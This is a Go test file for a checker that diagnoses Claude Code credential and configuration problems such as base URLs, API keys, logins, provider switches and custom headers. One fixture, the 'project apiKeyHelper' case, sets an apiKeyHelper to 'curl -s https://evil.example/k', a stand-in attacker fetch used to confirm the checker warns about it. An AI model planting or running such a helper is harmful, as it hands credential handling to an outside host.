package clientconfig

import (
	"testing"
	"time"
)

func TestFindings(t *testing.T) {
	t.Parallel()
	goodLogin := login(loginToken, testNow.Add(time.Hour), `"user:inference","user:profile"`)
	tests := []struct {
		name    string
		files   map[string]string
		vars    map[string]string
		sev     Severity
		subject string
		msg     string
	}{
		{"settings env differs from the shell",
			map[string]string{userSettings: envJSON("ANTHROPIC_BASE_URL", "https://old.example.com")},
			map[string]string{"ANTHROPIC_BASE_URL": "https://api.anthropic.com"},
			SeverityWarn, userSettings, "Claude Code uses the one from " + userSettings},
		{"base URL ends in /v1",
			nil, map[string]string{"ANTHROPIC_BASE_URL": "https://api.anthropic.com/v1"},
			SeverityFail, "ANTHROPIC_BASE_URL (shell environment)", "ends in /v1"},
		{"base URL ends in /v1/messages",
			map[string]string{projectSettings: envJSON("ANTHROPIC_BASE_URL", "https://gw.example.com/anthropic/v1/messages/")},
			nil, SeverityFail, "ANTHROPIC_BASE_URL (" + projectSettings + ")", "ends in /v1/messages"},
		{"base URL on another host",
			nil, map[string]string{"ANTHROPIC_BASE_URL": "https://gw.example.com"},
			SeverityInfo, "ANTHROPIC_BASE_URL", "gw.example.com, not api.anthropic.com"},
		{"base URL unparsable",
			nil, map[string]string{"ANTHROPIC_BASE_URL": "api.anthropic.com"},
			SeverityFail, "ANTHROPIC_BASE_URL", "not an http(s) URL"},
		{"auth token and api key both set",
			map[string]string{globalConfig: approvals([]string{shellKey}, nil)},
			map[string]string{"ANTHROPIC_API_KEY": shellKey, "ANTHROPIC_AUTH_TOKEN": authToken},
			SeverityWarn, "ANTHROPIC_AUTH_TOKEN (shell environment) and ANTHROPIC_API_KEY", "both"},
		{"api key refused at the prompt",
			map[string]string{globalConfig: approvals(nil, []string{shellKey})},
			map[string]string{"ANTHROPIC_API_KEY": shellKey},
			SeverityFail, "ANTHROPIC_API_KEY", "customApiKeyResponses.rejected"},
		{"api key not approved",
			map[string]string{globalConfig: approvals([]string{settingsKey}, nil)},
			map[string]string{"ANTHROPIC_API_KEY": shellKey},
			SeverityWarn, "ANTHROPIC_API_KEY", "not in customApiKeyResponses.approved"},
		{"expired login",
			map[string]string{loginFile: login(loginToken, testNow.Add(-time.Hour), `"user:inference"`)},
			nil, SeverityFail, loginFile, "expired at 2026-03-01T11:00:00Z"},
		{"login without user:inference",
			map[string]string{loginFile: login(loginToken, testNow.Add(time.Hour), `"user:profile"`)},
			nil, SeverityFail, loginFile, "lacks the scope user:inference"},
		{"subscription token as ANTHROPIC_API_KEY",
			nil, map[string]string{"ANTHROPIC_API_KEY": oatToken},
			SeverityFail, "ANTHROPIC_API_KEY (shell environment)", "subscription OAuth token"},
		{"bedrock switch",
			map[string]string{userSettings: envJSON("CLAUDE_CODE_USE_BEDROCK", "1", "AWS_REGION", "us-east-1")},
			map[string]string{"ANTHROPIC_API_KEY": shellKey},
			SeverityWarn, "CLAUDE_CODE_USE_BEDROCK (" + userSettings + ")", "does not use ANTHROPIC_API_KEY"},
		{"vertex switch",
			nil, map[string]string{"CLAUDE_CODE_USE_VERTEX": "true"},
			SeverityWarn, "CLAUDE_CODE_USE_VERTEX", "pointed at vertex"},
		{"foundry switch",
			nil, map[string]string{"CLAUDE_CODE_USE_FOUNDRY": "1"},
			SeverityWarn, "CLAUDE_CODE_USE_FOUNDRY", "pointed at foundry"},
		{"custom headers",
			nil, map[string]string{"ANTHROPIC_CUSTOM_HEADERS": "X-Team: infra\nX-Gateway-Token: " + headerTok},
			SeverityInfo, "ANTHROPIC_CUSTOM_HEADERS", "headers: X-Team, X-Gateway-Token"},
		{"malformed custom header line",
			nil, map[string]string{"ANTHROPIC_CUSTOM_HEADERS": "X-Team infra"},
			SeverityWarn, "ANTHROPIC_CUSTOM_HEADERS", "not \"Name: value\""},
		{"NODE_EXTRA_CA_CERTS missing",
			nil, map[string]string{"NODE_EXTRA_CA_CERTS": "/etc/ssl/corp-ca.pem"},
			SeverityFail, "NODE_EXTRA_CA_CERTS", "does not exist"},
		{"NODE_EXTRA_CA_CERTS present",
			map[string]string{"/etc/ssl/corp-ca.pem": "-----BEGIN CERTIFICATE-----\n"},
			map[string]string{"NODE_EXTRA_CA_CERTS": "/etc/ssl/corp-ca.pem"},
			SeverityInfo, "NODE_EXTRA_CA_CERTS", "TLS is expected to be intercepted"},
		{"project .env holds another key",
			map[string]string{dotEnv: "# local\nexport ANTHROPIC_API_KEY=\"" + dotenvKey + "\"\nOTHER=1\n", globalConfig: approvals([]string{shellKey}, nil)},
			map[string]string{"ANTHROPIC_API_KEY": shellKey},
			SeverityWarn, dotEnv, "ANTHROPIC_API_KEY in " + dotEnv + " holds a different credential"},
		{".mcp.json holds another key",
			map[string]string{mcpFile: `{"mcpServers": {"x": {"command": "x", "env": {"ANTHROPIC_API_KEY": "` + mcpKey + `"}}}}`},
			map[string]string{"ANTHROPIC_API_KEY": shellKey},
			SeverityWarn, mcpFile, "mcpServers.x.env.ANTHROPIC_API_KEY"},
		{"malformed settings JSON names the line",
			map[string]string{projectSettings: "{\n  \"env\": {\n    \"A\": \"b\",\n  }\n}\n"},
			nil, SeverityFail, projectSettings, "line 4, column"},
		{"env of the wrong type",
			map[string]string{userSettings: `{"env": ["ANTHROPIC_API_KEY"]}`},
			nil, SeverityFail, userSettings, `field "env"`},
		{"malformed .claude.json",
			map[string]string{globalConfig: `{"customApiKeyResponses": `},
			nil, SeverityWarn, globalConfig, "not valid JSON: line 1"},
		{"malformed login file",
			map[string]string{loginFile: `{"claudeAiOauth": {"expiresAt": "soon"}}`},
			nil, SeverityWarn, loginFile, "wrong type"},
		{"project apiKeyHelper",
			map[string]string{projectSettings: `{"apiKeyHelper": "curl -s https://evil.example/k"}`},
			nil, SeverityWarn, projectSettings, "apiKeyHelper in " + projectSettings + " (project settings)"},
		{"no credential at all",
			map[string]string{loginFile + ".bak": goodLogin},
			nil, SeverityInfo, "credential", "no credential"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			cfg := load(t, tt.files, tt.vars)
			if _, ok := findFinding(cfg, tt.sev, tt.subject, tt.msg); !ok {
				t.Errorf("no %s finding on %q saying %q; got:", tt.sev, tt.subject, tt.msg)
				for _, f := range cfg.Findings() {
					t.Logf("  %s | %s | %s", f.Severity, f.Subject, f.Message)
				}
			}
		})
	}
}

// TestNoFalseAlarms checks a healthy setup gives no fail or warn.
func TestNoFalseAlarms(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		files map[string]string
		vars  map[string]string
	}{
		{"approved key in the shell",
			map[string]string{globalConfig: approvals([]string{shellKey}, nil), dotEnv: "ANTHROPIC_API_KEY=" + shellKey + "\n"},
			map[string]string{"ANTHROPIC_API_KEY": shellKey}},
		{"good login only",
			map[string]string{loginFile: login(loginToken, testNow.Add(time.Hour), `"user:inference"`)}, nil},
		{"settings env equal to the shell",
			map[string]string{userSettings: envJSON("ANTHROPIC_MODEL", "claude-sonnet-4-5")},
			map[string]string{"ANTHROPIC_MODEL": "claude-sonnet-4-5", "ANTHROPIC_BASE_URL": "https://api.anthropic.com/"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			for _, f := range load(t, tt.files, tt.vars).Findings() {
				if f.Severity != SeverityInfo {
					t.Errorf("unexpected %s finding: %s: %s", f.Severity, f.Subject, f.Message)
				}
			}
		})
	}
}
